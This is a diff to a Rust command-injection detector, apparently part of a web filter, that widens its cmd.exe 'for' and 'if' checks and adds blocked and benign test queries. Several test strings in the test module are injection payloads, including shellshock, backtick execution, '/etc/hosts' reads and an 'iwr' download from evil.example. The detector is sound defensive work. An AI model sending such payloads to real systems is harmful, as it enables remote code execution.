@@ -258,12 +258,24 @@ fn command_with_arguments(s: &str) -> Option<String> {
     argument.then(|| word.to_owned())
 }
 
-/// `for %x in (set) do …` (cmd.exe loops).
-fn windows_for(s: &str) -> bool {
-    s.match_indices("for ").any(|(at, _)| {
+/// cmd.exe control flow: `for %x in (set) do …` (with `/f` options, odd
+/// variable names, no space before `do`), and `if [not] exist|defined|
+/// errorlevel …`.
+fn windows_control(s: &str) -> bool {
+    let s: String = s.split_whitespace().collect::<Vec<_>>().join(" ");
+    let for_loop = s.match_indices("for ").any(|(at, _)| {
         let rest = &s[at + 4..];
-        rest.contains('%') && rest.contains(" in ") && rest.contains('(') && rest.contains(" do ")
-    })
+        let Some(var) = rest.find('%') else { return false };
+        let Some(in_at) = rest[var..].find(" in") else { return false };
+        let after_in = rest[var + in_at + 3..].trim_start();
+        let Some(close) = after_in.find(')') else { return false };
+        after_in.starts_with('(') && after_in[close + 1..].trim_start().starts_with("do")
+    });
+    let condition = s.match_indices("if ").any(|(at, _)| {
+        let rest = s[at + 3..].trim_start_matches("not ").trim_start_matches("/i ");
+        ["exist ", "defined ", "errorlevel ", "cmdextversion "].iter().any(|k| rest.starts_with(k))
+    });
+    for_loop || condition
 }
 
 /// `{l,-lh}s`, `c{a,ou}nt`: brace expansion spelling a command.
@@ -303,7 +315,7 @@ pub fn check(values: &[Value<'_>], out: &mut Vec<Finding>) {
         if s.replace(' ', "").contains("(){") {
             out.push(finding("rce-shellshock", v, "() {"));
         }
-        if windows_for(s) {
+        if windows_control(s) {
             out.push(finding("rce-windows-for", v, s));
         }
         if brace_expansion(s)
@@ -344,6 +356,8 @@ mod tests {
             "/?q=%60id%60",
             "/?q=()%20{%20:;};%20/bin/sh",
             "/?q=for%20%25x%20in%20(1)%20do%20calc",
+            "/?q=%26+FOR+%25%40+IN+%28a%2Cb%29DO+cmd",
+            "/?q=IF++++NOT+EXIST+C%3A%5Cx+++CMD",
             "/?q=c'a't%20/etc/hosts",
             "/?q=;iwr%20http://evil.example/x.ps1",
             "/?q={l,-lh}s",
@@ -366,6 +380,8 @@ mod tests {
             "/?q=100%25+cotton",
             "/?q=rock+%26+roll",
             "/?q=net+weight+250g",
+            "/?q=if+it+exists+in+blue",
+            "/?q=good+for+you+in+(winter)+do+try",
         ] {
             assert!(!blocked(benign), "{benign}");
         }
